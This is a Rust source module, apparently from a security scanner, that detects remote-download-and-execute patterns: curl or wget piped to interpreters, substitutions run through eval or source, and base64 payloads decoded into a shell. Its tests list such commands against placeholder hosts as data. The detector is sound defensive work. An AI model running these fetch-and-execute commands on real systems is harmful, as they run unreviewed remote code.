//! Downloads and decoded texts that a program runs, in any text.
//!
//! The search goes from the pipe, or from the opening of a substitution, to the download, and never far: so it takes time in
//! proportion to the text.

use crate::text::{
    boundary, is_base64, run, skip_blanks, starts_with_ignoring_case, words_ignoring_case,
};
use crate::urls;

/// How many characters may lie between a download and its pipe.
const REACH: usize = 120;
/// How many bytes those can be, with the download itself.
const WINDOW: usize = 4 * REACH + 4;
/// No command that is looked at is longer.
const COMMAND: usize = 1000;
/// How far behind the opening of a substitution a download may stand.
const OPENING: usize = 64;
/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "osascript",
];
/// Words before an interpreter that change nothing.
const PREFIXES: &[&str] = &["sudo", "env", "exec", "command", "nohup"];
/// A literal of this many characters of base64 is a payload.
const PAYLOAD: usize = 40;

/// `curl … | sh`, spelt without anything in between.
pub(crate) fn shell_pipe(text: &[u8]) -> Option<usize> {
    piped_downloads(text)
        .find(|(_, pipe)| {
            is_one_of(text, skip_blanks(text, pipe + 1), &["sh", "bash", "zsh"]).is_some()
        })
        .map(|(download, _)| download)
}

/// A download that some interpreter runs: through `sudo`, by its path, or in a substitution.
pub(crate) fn download_run(text: &[u8]) -> Option<usize> {
    let piped = piped_downloads(text)
        .find(|(_, pipe)| interpreter_at(text, pipe + 1))
        .map(|(download, _)| download);
    let substituted = substitutions(text).find_map(|open| {
        let inside = text.get(..text.len().min(open + OPENING))?;
        download_in(inside, open).filter(|_| runs_substitution(text, open))
    });
    [piped, substituted].into_iter().flatten().min()
}

/// Whether the download at an offset comes from a bare public address.
pub(crate) fn is_from_bare_address(text: &[u8], at: usize) -> bool {
    let length = run(bounded(text, at), at, |byte| byte != b'\n' && byte != b'|');
    let command =
        String::from_utf8_lossy(text.get(at..at + length).unwrap_or_default()).into_owned();
    urls::bare_address(&command)
        .and_then(|found| command.get(found..))
        .is_some_and(|link| !urls::is_local(link))
}

/// A base64 literal that is decoded and given to a shell.
pub(crate) fn decoded_pipe(text: &[u8]) -> Option<usize> {
    words_ignoring_case(text, "base64").find(|at| {
        let flag = skip_blanks(text, at + "base64".len());
        let decodes = ["-d", "--decode", "-D"]
            .iter()
            .any(|option| starts_with_ignoring_case(text, flag, option));
        if !decodes {
            return false;
        }
        let start = line_start(text, *at, COMMAND);
        let end = at + run(bounded(text, *at), *at, |byte| byte != b'\n');
        runs_result(text, *at, end) && has_payload(text.get(start..end).unwrap_or_default())
    })
}

/// Whether what a command on this line prints is run.
fn runs_result(text: &[u8], at: usize, end: usize) -> bool {
    let piped = (at..end)
        .filter(|at| text.get(*at) == Some(&b'|'))
        .any(|pipe| interpreter_at(text, pipe + 1));
    let start = line_start(text, at, COMMAND);
    piped
        || substitutions(text.get(..at).unwrap_or_default().get(start..).unwrap_or_default())
            .last()
            .is_some_and(|open| runs_substitution(text, start + open))
}

fn has_payload(line: &[u8]) -> bool {
    let mut at = 0;
    while at < line.len() {
        let length = run(line, at, is_base64);
        let word = line.get(at..at + length).unwrap_or_default();
        // A path is made of the same characters, but hardly with this many of every kind.
        if length >= PAYLOAD
            && word.iter().any(u8::is_ascii_digit)
            && word.iter().any(u8::is_ascii_uppercase)
        {
            return true;
        }
        at += length.max(1);
    }
    false
}

/// Downloads with the pipe that follows each.
fn piped_downloads(text: &[u8]) -> impl Iterator<Item = (usize, usize)> {
    let pipes = text.iter().enumerate().filter(|(_, byte)| **byte == b'|').map(|(at, _)| at);
    pipes.filter_map(move |pipe| {
        let before = text.get(..pipe)?;
        let reach = before
            .iter()
            .rev()
            .take(WINDOW)
            .take_while(|byte| **byte != b'|' && **byte != b'\n')
            .count();
        let mut start = pipe - reach;
        while let Some(download) = download_in(before, start) {
            if before.get(download + 4..).is_some_and(|between| characters(between) <= REACH) {
                return Some((download, pipe));
            }
            start = download + 1;
        }
        None
    })
}

/// The first `curl` or `wget` at or after an offset.
fn download_in(text: &[u8], start: usize) -> Option<usize> {
    (start..text.len()).find(|at| {
        matches!(text.get(*at), Some(b'c' | b'C' | b'w' | b'W'))
            && is_one_of(text, *at, &["curl", "wget"]).is_some()
            && boundary(text, *at)
    })
}

/// Characters, as a regular expression counts them.
fn characters(part: &[u8]) -> usize {
    part.iter().filter(|byte| **byte & 0xc0 != 0x80).count()
}

fn is_one_of(text: &[u8], at: usize, words: &[&str]) -> Option<usize> {
    words
        .iter()
        .find(|word| starts_with_ignoring_case(text, at, word) && boundary(text, at + word.len()))
        .map(|word| at + word.len())
}

/// An interpreter, perhaps by its path, perhaps after `sudo` and its options.
fn interpreter_at(text: &[u8], at: usize) -> bool {
    let text = bounded(text, at);
    let mut at = skip_blanks(text, at);
    for _ in 0..4 {
        while text.get(at) == Some(&b'-') {
            at += run(text, at, |byte| !byte.is_ascii_whitespace());
            at = skip_blanks(text, at);
        }
        let path = run(text, at, |byte| byte.is_ascii_alphanumeric() || byte == b'/');
        let word = text.get(at..at + path).unwrap_or_default();
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let name_at = at + path - name.len();
        if is_one_of(text, name_at, INTERPRETERS).is_some() {
            return true;
        }
        let Some(end) = is_one_of(text, name_at, PREFIXES) else { return false };
        at = skip_blanks(text, end);
    }
    false
}

/// Where `$(`, `<(` and backquotes stand.
fn substitutions(text: &[u8]) -> impl Iterator<Item = usize> {
    text.iter()
        .enumerate()
        .filter(|(at, byte)| match byte {
            b'`' => true,
            b'$' | b'<' => text.get(at + 1) == Some(&b'('),
            _ => false,
        })
        .map(|(at, _)| at)
}

/// `sh -c "$(…)"`, `bash <(…)`, `eval "$(…)"`, `source <(…)`
fn runs_substitution(text: &[u8], open: usize) -> bool {
    let command = text.get(line_start(text, open, 2 * OPENING)..open).unwrap_or_default();
    let command = command.rsplit(|byte| b";&|".contains(byte)).next().unwrap_or_default();
    let command = String::from_utf8_lossy(command);
    let words: Vec<&str> = command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '`']))
        .filter(|word| !word.is_empty())
        .collect();
    let runs = |word: &str| INTERPRETERS.contains(&word.rsplit('/').next().unwrap_or(word));
    match words.as_slice() {
        [.., "eval" | "source" | "."] | [.., "eval", "--"] => true,
        [.., program, "-c" | "-lc" | "-e" | "-s"] => runs(program),
        [.., program] => text.get(open) == Some(&b'<') && runs(program),
        [] => false,
    }
}

/// The text up to where a command that is looked at ends.
fn bounded(text: &[u8], at: usize) -> &[u8] {
    text.get(..text.len().min(at + COMMAND)).unwrap_or_default()
}

/// Where the line begins that holds an offset, but not further back than this.
fn line_start(text: &[u8], at: usize, reach: usize) -> usize {
    let before = text.get(..at).unwrap_or_default();
    at - before.iter().rev().take(reach).take_while(|byte| **byte != b'\n').count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_a_shell() {
        for text in [
            "curl https://x.invalid | sh",
            "wget -qO- x|bash",
            "CURL x |\n zsh",
            "curl x | bash -s",
        ] {
            assert!(shell_pipe(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "curl x | sudo bash",
            "curl x | /bin/sh",
            "curl x | shasum",
            "curl x\n| sh",
            "mycurl x | sh",
            "curl x > f",
        ] {
            assert!(shell_pipe(text.as_bytes()).is_none(), "{text}");
        }
        let far = format!("curl {} | sh", "x".repeat(118));
        assert!(shell_pipe(far.as_bytes()).is_some());
        let farther = format!("curl {} | sh", "x".repeat(119));
        assert!(shell_pipe(farther.as_bytes()).is_none());
    }

    #[test]
    fn downloads_that_are_run() {
        for text in [
            "curl x | sudo bash",
            "curl x | /bin/sh",
            "curl x | sudo -E bash -",
            "curl x | python3",
            "curl x | /usr/bin/env node",
            "bash <(curl -s x)",
            "sh -c \"$(curl -fsSL x)\"",
            "eval \"$(curl x)\"",
            "source <(curl x)",
            "wget -O- x | perl",
        ] {
            assert!(download_run(text.as_bytes()).is_some(), "{text}");
        }
        for text in [
            "curl x | jq .",
            "curl x | tar xz",
            "echo $(curl x)",
            "V=$(curl x)",
            "curl -o sh x",
            "curl x | shasum -a 256",
        ] {
            assert!(download_run(text.as_bytes()).is_none(), "{text}");
        }
    }

    #[test]
    fn payloads() {
        let payload = "Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EuMQ==";
        for text in [
            format!("echo {payload} | base64 -d | bash"),
            format!("echo '{payload}'|base64 --decode|sh"),
            format!("bash -c \"$(echo {payload} | base64 -D)\""),
        ] {
            assert!(decoded_pipe(text.as_bytes()).is_some(), "{text}");
        }
        assert!(decoded_pipe(format!("echo {payload} | base64 -d > out.png").as_bytes()).is_none());
        assert!(decoded_pipe(b"cat key | base64 -d | sh").is_none());
    }
}
